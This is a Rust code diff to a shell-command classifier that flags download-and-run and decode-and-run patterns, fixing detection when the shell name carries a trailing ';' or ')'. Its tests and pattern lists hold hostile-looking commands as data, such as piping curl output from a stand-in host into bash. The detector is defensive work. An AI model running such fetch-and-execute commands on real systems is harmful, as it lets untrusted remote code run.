@@ -206,7 +206,7 @@ fn is_download_and_run(lower: &str) -> bool {
     let pipes_to_shell = lower
         .split('|')
         .skip(1)
-        .any(|seg| seg.split_whitespace().next().is_some_and(interpreter));
+        .any(|seg| first_word(seg).is_some_and(interpreter));
     // sh -c "$(curl …)", bash <(curl …), `wget -O- …`
     let substituted = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"]
         .iter()
@@ -227,6 +227,13 @@ fn is_download_and_run(lower: &str) -> bool {
         || lower.contains("| iex")
         || lower.contains("exec(");
     pipes_to_shell || substituted || runs_file
+}
+
+/// The program a pipeline segment starts with, without the separator or quote stuck to it
+/// (`sh;` in `… | sh; curl …`, `bash)` in `$(… | bash)`).
+fn first_word(seg: &str) -> Option<&str> {
+    let w = seg.split_whitespace().next()?;
+    Some(w.trim_end_matches([';', '&', ')', '`', '"', '\'']))
 }
 
 /// A decoder's output run by a shell or an interpreter (see [`ExecClass::ObfuscatedRun`]).
@@ -250,7 +257,7 @@ fn is_obfuscated_run(lower: &str) -> bool {
     let segs: Vec<&str> = lower.split('|').collect();
     let piped = segs
         .windows(2)
-        .any(|w| decodes(w[0]) && w[1].split_whitespace().next().is_some_and(runs));
+        .any(|w| decodes(w[0]) && first_word(w[1]).is_some_and(runs));
     // eval "$(… base64 -d)", sh -c "$(… | base64 -d)", exec(base64.b64decode(…))
     let evaluated = decodes(lower)
         && (words(lower).any(|w| w == "eval" || w == "iex")
@@ -567,6 +574,16 @@ mod tests {
             .contains(&run)
         );
         assert!(c(&["powershell", "-enc", "SQBFAFgA"]).contains(&run));
+        // The shell followed by `;` (another command after it) is still the shell.
+        assert!(c(&["sh", "-c", "echo aWQ= | base64 -d | sh; echo done"]).contains(&run));
+        assert!(
+            c(&[
+                "sh",
+                "-c",
+                "curl -s http://h.example/x | bash; rm -f /tmp/x"
+            ])
+            .contains(&"download-and-run")
+        );
         // Decoding a value to read it runs nothing.
         assert!(!c(&["sh", "-c", "cat /tmp/v | base64 -d"]).contains(&run));
         assert!(!c(&["base64", "-d", "/tmp/v"]).contains(&run));
